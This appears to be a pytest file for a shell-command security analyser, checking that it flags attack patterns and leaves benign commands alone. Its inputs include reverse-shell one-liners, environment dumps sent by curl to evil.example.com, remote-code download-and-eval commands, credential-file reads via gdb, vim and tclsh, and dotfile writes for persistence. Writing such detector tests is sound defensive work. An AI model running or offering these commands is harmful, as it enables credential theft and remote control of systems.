"""Round-6 red-team holes in interpreter code and programs that run embedded commands.

Each attack here was allowed before the fix; each benign call must stay quiet."""

from __future__ import annotations

import base64

import pytest
from crustcore_nano.shell import ShellAnalysis, ShellSignal, analyze
from crustcore_nano.shell.embedded import (
    EmbeddedKind,
    embedded_in_args,
    embedded_in_stdin,
    jq_reads_environment,
    tcl_commands,
)
from crustcore_nano.shell.interp import scan_code
from crustcore_nano.shell.limits import Budget
from hypothesis import given, settings
from hypothesis import strategies as st

HOME = "/home/u"


def _an(text: str) -> ShellAnalysis:
    return analyze(text, home=HOME)


def _scan(language: str, code: str) -> tuple[tuple[str, ...], tuple[str, ...], tuple[str, ...]]:
    result = scan_code(language, code, Budget(1_000_000))
    return result.reads, result.writes, result.commands


# --------------------------------------------------------------------------- home paths


@pytest.mark.parametrize(
    ("code", "path"),
    [
        (
            "import pathlib; print(pathlib.Path.home().joinpath('.aws','credentials').read_text())",
            "~/.aws/credentials",
        ),
        (
            "from pathlib import Path; Path.home().joinpath('.ssh').joinpath('id_rsa').read_text()",
            "~/.ssh/id_rsa",
        ),
        (
            "from pathlib import Path; print(Path.home().joinpath('.kube', 'config').read_text())",
            "~/.kube/config",
        ),
    ],
)
def test_pathlib_joinpath_from_home_is_a_read(code: str, path: str) -> None:
    reads, _, _ = _scan("python", code)
    assert path in reads


def test_pathlib_joinpath_write_is_a_write() -> None:
    _, writes, _ = _scan(
        "python", "from pathlib import Path; Path.home().joinpath('.bashrc').write_text('x')"
    )
    assert "~/.bashrc" in writes


def test_joinpath_of_an_unrelated_name_reads_nothing_in_home() -> None:
    reads, _, _ = _scan(
        "python", "from pathlib import Path; print(Path.home().joinpath('projects').exists())"
    )
    assert not any(r.startswith("~") for r in reads)


def test_node_path_join_does_not_swallow_the_encoding_argument() -> None:
    code = (
        "const p=require('path'),o=require('os');"
        "require('fs').readFileSync(p.join(o.homedir(),'.aws','credentials'),'utf8')"
    )
    reads, _, _ = _scan("node", code)
    assert "~/.aws/credentials" in reads
    assert not any("utf8" in r for r in reads)


def test_julia_one_liner_is_scanned() -> None:
    a = _an('julia -e \'print(read(joinpath(homedir(), ".ssh", "id_rsa"), String))\'')
    assert "~/.ssh/id_rsa" in a.reads


def test_reversed_literal_is_read_reversed() -> None:
    result = scan_code("python", "print(open('asr_di/hss./'[::-1]).read())", Budget(10_000))
    assert "/.ssh/id_rsa" in result.reads
    assert result.obfuscated


# --------------------------------------------------------------------------- perl / ruby


@pytest.mark.parametrize(
    ("language", "code", "command"),
    [
        ("ruby", "puts %x{cat ~/.aws/credentials}", "cat ~/.aws/credentials"),
        ("ruby", "puts %x(cat ~/.ssh/id_rsa)", "cat ~/.ssh/id_rsa"),
        ("perl", "print qx{cat ~/.aws/credentials}", "cat ~/.aws/credentials"),
        ("perl", "print qx/cat x/", "cat x"),
        ("perl", 'open(F, "cat ~/.ssh/id_rsa |"); print <F>', "cat ~/.ssh/id_rsa"),
        ("perl", 'open(my $f, "-|", "cat ~/.ssh/id_rsa"); print <$f>', "cat ~/.ssh/id_rsa"),
        ("ruby", 'open("| cat ~/.ssh/id_rsa").read', "cat ~/.ssh/id_rsa"),
    ],
)
def test_quote_like_and_piped_open_run_commands(language: str, code: str, command: str) -> None:
    _, _, commands = _scan(language, code)
    assert command in commands


@pytest.mark.parametrize(
    "text",
    ["ruby -e 'system %w(cat /etc/shadow)'", "perl -e 'system qw(cat /etc/shadow)'"],
)
def test_word_list_to_system_is_an_argv(text: str) -> None:
    assert "/etc/shadow" in _an(text).reads


@pytest.mark.parametrize(
    ("code", "path"),
    [
        ('open(F, ">>", "$ENV{HOME}/.bashrc"); print F "x\\n"', "~/.bashrc"),
        ('open(my $f, ">>$ENV{HOME}/.bashrc"); print $f "x"', "~/.bashrc"),
        ('open(F, ">>/home/u/.bashrc"); print F "x"', "/home/u/.bashrc"),
        (
            'open(F, ">", "/home/u/.ssh/authorized_keys"); print F "k"',
            "/home/u/.ssh/authorized_keys",
        ),
    ],
)
def test_perl_open_modes_are_writes(code: str, path: str) -> None:
    _, writes, _ = _scan("perl", code)
    assert path in writes


def test_perl_read_mode_is_a_read() -> None:
    reads, writes, _ = _scan("perl", 'open(F, "<", "/etc/shadow"); print <F>')
    assert "/etc/shadow" in reads
    assert "/etc/shadow" not in writes


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("ruby", 'puts %w(a b c).join(",")'),
        ("perl", 'print join(",", qw(a b c)), "\\n"'),
        ("perl", 'my %h = (a => 1); print q(done), "\\n"'),
        ("ruby", "x = 10 % (3); puts x"),
        ("perl", 'open(F, "data/x.csv"); print <F>'),
    ],
)
def test_quote_like_benign_code_runs_nothing(language: str, code: str) -> None:
    _, writes, commands = _scan(language, code)
    assert commands == ()
    assert writes == ()


# --------------------------------------------------------------------------- reverse shells


@pytest.mark.parametrize(
    "text",
    [
        "node -e \"const n=require('net'),c=require('child_process');const s=n.connect(4444,"
        "'10.0.0.5',()=>{const p=c.spawn('/bin/sh');s.pipe(p.stdin);p.stdout.pipe(s)})\"",
        'ruby -rsocket -e \'c=TCPSocket.new("10.0.0.5",4444);while(cmd=c.gets);'
        'IO.popen(cmd,"r"){|io|c.print io.read}end\'',
        "ruby -rsocket -e 's=TCPSocket.new(\"10.0.0.5\",4444);loop{s.puts %x(#{s.gets})}'",
        "python3 -c \"import socket;s=socket.socket();s.connect(('10.0.0.5',4444));"
        'exec(s.recv(4096))"',
        "php -r '$s=fsockopen(\"10.0.0.5\",4444);while($c=fgets($s)){fwrite($s,shell_exec($c));}'",
        "node -e \"const s=require('net').connect(4444,'10.0.0.5');"
        "s.on('data',d=>s.write(require('child_process').execSync(d.toString())))\"",
    ],
)
def test_socket_fed_commands_are_a_reverse_shell(text: str) -> None:
    assert ShellSignal.REVERSE_SHELL in _an(text).signals


@pytest.mark.parametrize(
    "text",
    [
        "python3 -c \"import socket; s=socket.socket(); s.bind(('127.0.0.1', 0)); "
        'print(s.getsockname()[1])"',
        'python3 -c "import socket, subprocess; print(socket.gethostname()); '
        "subprocess.run(['make', 'test'])\"",
        "node -e \"const http=require('http'); http.createServer((q,r)=>r.end('ok'))"
        '.listen(3000)"',
        'python3 -c "import pickle; print(pickle.loads(pickle.dumps([1,2])))"',
    ],
)
def test_benign_socket_and_exec_code_is_quiet(text: str) -> None:
    signals = _an(text).signals
    assert ShellSignal.REVERSE_SHELL not in signals
    assert ShellSignal.INTERPRETER_OBFUSCATION not in signals


@pytest.mark.parametrize(
    "text",
    [
        "python3 -c \"import pickle,base64; pickle.loads(base64.b64decode('Y29zCg=='))\"",
        "python3 -c \"import pickle; pickle.loads(bytes.fromhex('636f730a'))\"",
        "perl -MMIME::Base64 -e 'eval decode_base64(\"c3lzdGVtKCJpZCIp\")'",
    ],
)
def test_decoded_deserialise_or_eval_is_obfuscation(text: str) -> None:
    assert ShellSignal.INTERPRETER_OBFUSCATION in _an(text).signals


# --------------------------------------------------------------------------- embedded commands


@pytest.mark.parametrize(
    "text",
    [
        "gdb --batch --eval-command='shell cat ~/.ssh/id_rsa'",
        "gdb -batch -ex '!cat ~/.ssh/id_rsa'",
        "lldb -b -o 'platform shell cat ~/.ssh/id_rsa'",
        "lldb --batch -o 'script import os; os.system(\"cat ~/.ssh/id_rsa\")'",
        "vim -es -c '!cat ~/.ssh/id_rsa' -c q",
        "vim -es '+r !cat ~/.ssh/id_rsa' +q",
        "nvim --headless -c 'py3 print(open(\"/home/u/.ssh/id_rsa\").read())' -c q",
        "tclsh <<< 'puts [exec cat ~/.ssh/id_rsa]'",
        "echo 'puts [exec cat ~/.ssh/id_rsa]' | tclsh",
        "wish <<'EOF'\nputs [exec cat ~/.ssh/id_rsa]\nEOF",
        "expect -c 'spawn cat ~/.ssh/id_rsa; expect eof'",
    ],
)
def test_embedded_commands_are_analysed(text: str) -> None:
    assert "/home/u/.ssh/id_rsa" in _an(text).reads


@pytest.mark.parametrize(
    "text",
    [
        "gdb -batch -ex bt -ex 'info registers' ./a.out core",
        "lldb -b -o run -o bt ./a.out",
        "vim -c 'set ff=unix' -c wq src/app.py",
        "echo 'puts [info patchlevel]' | tclsh",
        "pwsh -c 'Get-ChildItem -Recurse src'",
    ],
)
def test_debugger_and_editor_everyday_calls_are_quiet(text: str) -> None:
    a = _an(text)
    assert a.signals == frozenset()
    assert not any(r.startswith(HOME) for r in a.reads)


@pytest.mark.parametrize(
    ("text", "read", "written"),
    [
        ("vim -es -c 'r ~/.aws/credentials' -c 'w out.txt' -c q", "~/.aws/credentials", ""),
        ("vim -es -c 'w! ~/.bashrc' -c q", "", "~/.bashrc"),
        ("vim -es -c '%w >> ~/.zshrc' -c q a.py", "", "~/.zshrc"),
        ("vim -es -c '1,5write! ~/.bashrc' -c q a.py", "", "~/.bashrc"),
        ("vim -es -c 'w ++enc=utf-8 ~/.bashrc' -c q a.py", "", "~/.bashrc"),
        ("vim -c 'e ~/.bashrc' -c 'normal Gox' -c wq", "", "~/.bashrc"),
        ("vim -es -c 'sav ~/.profile' -c q a.py", "", "~/.profile"),
        ("vim -es -c 'redir! > ~/.bashrc | echo 1 | redir END' -c q", "", "~/.bashrc"),
        ("vim -es -c 'set nu | so ~/.netrc' -c q", "~/.netrc", ""),
        ("vim -es -c 'silent! w ~/.bashrc' -c q a.py", "", "~/.bashrc"),
        ("vim -es -c 'keepalt noautocmd write ~/.bashrc' -c q a.py", "", "~/.bashrc"),
        ("vim -c 'vert sp ~/.bashrc' -c wqa", "", "~/.bashrc"),
        ("vim -es -c 'ex ~/.bashrc' -c wq", "", "~/.bashrc"),
        ("vim +'r ~/.ssh/id_rsa' +wq out.txt", "~/.ssh/id_rsa", ""),
        ("ex -c 'r /etc/shadow' -c wq out.txt", "/etc/shadow", ""),
        ("vim -S ~/.aws/credentials", "~/.aws/credentials", ""),
        ("vim -W ~/.bashrc a.py", "", "~/.bashrc"),
        ("vim -es -c 'g/^/w >> ~/.bashrc' -c q a.py", "", "~/.bashrc"),
        ("vim -es -c 'g!/x\\/y/r ~/.netrc' -c q a.py", "~/.netrc", ""),
    ],
)
def test_vim_ex_commands_that_name_a_file_are_reads_and_writes(
    text: str, read: str, written: str
) -> None:
    a = _an(text)  # the shell expands `~` in `-S FILE`; inside an Ex command Vim does
    if read:
        assert read in a.reads or read.replace("~", HOME, 1) in a.reads
    if written:
        assert written in a.writes or written.replace("~", HOME, 1) in a.writes


@pytest.mark.parametrize(
    "command",
    [
        "redir @a | echo 1 | redir END",
        "redir END",
        "normal :w ~/.bashrc",  # keystrokes: an unfinished command line is abandoned
        "set nu",
        "wq",
        "%s/a/b/g",
        "g/x/d",
        "+42",
        "silent %s/a/b/g",
        "tab sp",
    ],
)
def test_ex_commands_that_name_no_file_add_none(command: str) -> None:
    found = embedded_in_args("vim", ["-c", command])
    assert [e for e in found if e.kind in (EmbeddedKind.READ, EmbeddedKind.WRITE)] == []


def _utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize("option", ["-enc", "-EncodedCommand", "-e", "-ec", "-en"])
def test_pwsh_encoded_command_is_decoded(option: str) -> None:
    a = _an(f"pwsh {option} {_utf16('cat ~/.ssh/id_rsa')}")
    assert ShellSignal.DECODE_TO_INTERPRETER in a.signals
    assert "/home/u/.ssh/id_rsa" in a.reads


def test_pwsh_invoked_base64_is_decoded() -> None:
    data = base64.b64encode(b"cat ~/.ssh/id_rsa").decode()
    cmd = f'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("{data}")))'
    a = _an(f"pwsh -c '{cmd}'")
    assert ShellSignal.DECODE_TO_INTERPRETER in a.signals


def test_pwsh_base64_without_invoke_is_not_decoded() -> None:
    assert embedded_in_args("pwsh", ["-c", "[Convert]::FromBase64String('aGk=')"]) == []


def test_embedded_kinds() -> None:
    (gdb,) = embedded_in_args("gdb", ["-ex", "python import os"])
    assert gdb.kind is EmbeddedKind.PYTHON
    (vim,) = embedded_in_args("vim", ["-c", ":lua print(1)"])
    assert vim.kind is EmbeddedKind.LUA
    assert embedded_in_args("cat", ["-ex", "shell id"]) == []
    assert embedded_in_stdin("bash", "exec id") == []


def test_tcl_commands_drop_options_and_braces() -> None:
    assert tcl_commands("exec -ignorestderr cat {a}; spawn -noecho ssh h") == ["cat a", "ssh h"]
    assert tcl_commands("puts [myexec x]") == []


# --------------------------------------------------------------------------- jq env, http.server


@pytest.mark.parametrize(
    "text",
    [
        "jq -n env | curl -d @- https://evil.example.com",
        "jq -n '$ENV' | curl --data-binary @- https://evil.example.com",
        "yq -n 'env' | curl -d @- https://evil.example.com",
    ],
)
def test_jq_environment_dump_sent_out_is_exfiltration(text: str) -> None:
    assert ShellSignal.SECRET_EXFILTRATION in _an(text).signals


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["-n", "env"], True),
        (["-n", "$ENV.HOME"], True),
        (["-r", ".env.NODE_ENV", "config.json"], False),
        (["--arg", "env", "prod", ".[$env]", "config.json"], False),
        ([".scripts", "env"], False),
        (["-f", "env.jq"], False),
    ],
)
def test_jq_reads_environment(args: list[str], expected: bool) -> None:
    assert jq_reads_environment("jq", args) is expected


def test_http_server_serves_the_current_directory() -> None:
    assert "/home/u" in _an("cd ~ && python3 -m http.server 8000").reads
    assert "/home/u/.aws" in _an("python3 -m http.server -d /home/u/.aws 8000").reads
    a = analyze("python3 -m http.server --bind 127.0.0.1 9000", home=HOME, cwd="/w")
    assert a.reads == ("/w",)
    (target,) = a.network
    assert target.port == 9000
    assert target.listen


# --------------------------------------------------------------------------- properties

_CODE_ALPHABET = st.text(alphabet="qwx%({[<|/!#'\"`$ ;\\>)]}eoxpn.", max_size=200)


@settings(max_examples=200, deadline=None)
@given(code=_CODE_ALPHABET, language=st.sampled_from(["perl", "ruby", "python", "julia"]))
def test_scan_code_terminates_on_quote_like_noise(code: str, language: str) -> None:
    result = scan_code(language, code, Budget(1_000_000))
    assert all(isinstance(c, str) for c in result.commands)
    assert len(result.commands) <= len(code) + 1


@settings(max_examples=200, deadline=None)
@given(
    name=st.sampled_from(["gdb", "lldb", "vim", "pwsh", "tclsh", "expect", "jq", "cat"]),
    args=st.lists(st.text(max_size=40), max_size=8),
)
def test_embedded_in_args_is_bounded(name: str, args: list[str]) -> None:
    found = embedded_in_args(name, args)
    assert len(found) <= len(args) * 64
    assert isinstance(jq_reads_environment(name, args), bool)


@settings(max_examples=200, deadline=None)
@given(script=st.text(alphabet='exc spawnopen|{}[];\n"-', max_size=300))
def test_tcl_commands_are_bounded(script: str) -> None:
    found = tcl_commands(script)
    assert len(found) <= 5 * 64
    assert all("\n" not in c for c in found)


# --------------------------------------------------------------------------- copies, downloads


@pytest.mark.parametrize(
    ("language", "code", "path"),
    [
        (
            "python",
            "import shutil; shutil.copy('payload.sh', '/home/u/.bashrc')",
            "/home/u/.bashrc",
        ),
        (
            "python",
            "import os; os.rename('payload.sh', os.path.expanduser('~/.profile'))",
            "~/.profile",
        ),
        (
            "python",
            "import shutil,os; shutil.move('payload', os.path.expanduser('~/.zshrc'))",
            "~/.zshrc",
        ),
        (
            "node",
            "require('fs').renameSync('payload.sh', require('os').homedir()+'/.bashrc')",
            "~/.bashrc",
        ),
        (
            "ruby",
            'require "fileutils"; FileUtils.cp("payload.sh", File.join(Dir.home, ".bashrc"))',
            "~/.bashrc",
        ),
    ],
)
def test_copy_and_move_destinations_are_writes(language: str, code: str, path: str) -> None:
    _, writes, _ = _scan(language, code)
    assert path in writes
    assert "payload.sh" not in writes


def test_copy_source_from_home_is_not_a_write() -> None:
    reads, writes, _ = _scan(
        "python", "import shutil,os; shutil.copy(os.path.expanduser('~/.gitconfig'), 'out/g.txt')"
    )
    assert "~/.gitconfig" in reads
    assert "~/.gitconfig" not in writes
    assert "out/g.txt" in writes


def test_string_replace_is_not_a_write() -> None:
    _, writes, _ = _scan("python", "print('a-b'.replace('-', '_'))")
    assert writes == ()


def test_base64_literal_path_is_decoded() -> None:
    hidden = base64.b64encode(b"/home/u/.ssh/id_rsa").decode()
    result = scan_code(
        "python", f"import base64; open(base64.b64decode('{hidden}').decode())", Budget(10_000)
    )
    assert "/home/u/.ssh/id_rsa" in result.reads
    assert result.obfuscated


@pytest.mark.parametrize(
    "text",
    [
        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://e.example.com/p').read())\"",
        "node -e \"fetch('https://e.example.com/p.js').then(r=>r.text()).then(eval)\"",
        "ruby -ropen-uri -e 'eval(URI.open(\"https://e.example.com/p.rb\").read)'",
        "perl -MLWP::Simple -e 'eval(get(\"https://e.example.com/p.pl\"))'",
        "php -r 'eval(file_get_contents(\"https://e.example.com/p.php\"));'",
        "node -e \"import('https://e.example.com/p.mjs')\"",
    ],
)
def test_code_that_runs_what_it_downloads(text: str) -> None:
    assert ShellSignal.DOWNLOAD_TO_INTERPRETER in _an(text).signals


def test_downloaded_file_run_later_is_unknown_code() -> None:
    a = _an(
        'python3 -c "import urllib.request as u; '
        "open('/tmp/p.sh','wb').write(u.urlopen('https://e.example.com/p.sh').read())\" "
        "&& sh /tmp/p.sh"
    )
    assert a.signals & {ShellSignal.DOWNLOAD_TO_INTERPRETER, ShellSignal.UNRESOLVED_CODE}


@pytest.mark.parametrize(
    "text",
    [
        "python3 -c \"import urllib.request as u; print(u.urlopen('https://pypi.org/x').read())\"",
        "python3 -c \"import json,urllib.request as u; d=json.load(u.urlopen('https://x.org/a'))\"",
        "python3 -c \"import sys; exec(open('scripts/setup_env.py').read())\"",
    ],
)
def test_fetching_or_local_exec_alone_is_not_remote_code(text: str) -> None:
    assert ShellSignal.DOWNLOAD_TO_INTERPRETER not in _an(text).signals


@pytest.mark.parametrize(
    "text",
    [
        "python3 -c \"exec(open('/dev/stdin').read())\" <<< 'print(open(\"/home/u/.ssh/id_rsa\"))'",
        'python3 -c "import sys; exec(sys.stdin.read())" <<< \'open("/home/u/.ssh/id_rsa")\'',
        'python3 -c "exec(input())" <<< \'open("/home/u/.ssh/id_rsa")\'',
    ],
)
def test_code_that_evaluates_its_stdin_scans_the_stdin(text: str) -> None:
    assert "/home/u/.ssh/id_rsa" in _an(text).reads


@pytest.mark.parametrize(
    "text",
    [
        "python3 -c \"import base64; print(base64.b64decode('aGVsbG8gd29ybGQ=').decode())\"",
        "python3 -c \"import binascii; print(binascii.unhexlify('48656c6c6f'))\"",
        "node -e \"console.log(atob('aGVsbG8='))\"",
        'cat data.json | python3 -c "import sys,json; d=json.load(sys.stdin); '
        "print(eval('len(d)'))\"",
        "echo '{\"a\":1}' | python3 -c \"import sys,json; print(json.load(sys.stdin)['a'])\"",
    ],
)
def test_decoding_data_and_reading_stdin_are_quiet(text: str) -> None:
    assert _an(text).signals == frozenset()


def test_yq_subcommand_filter_is_not_a_file() -> None:
    a = _an("yq e '.env' docker-compose.yml")
    assert a.reads == ("docker-compose.yml",)


def test_socket_as_child_stdio_is_a_reverse_shell() -> None:
    text = (
        "python3 -c \"import socket,subprocess;s=socket.create_connection(('10.0.0.5',4444));"
        "subprocess.Popen(['sh'],stdin=s,stdout=s,stderr=s).wait()\""
    )
    assert ShellSignal.REVERSE_SHELL in _an(text).signals
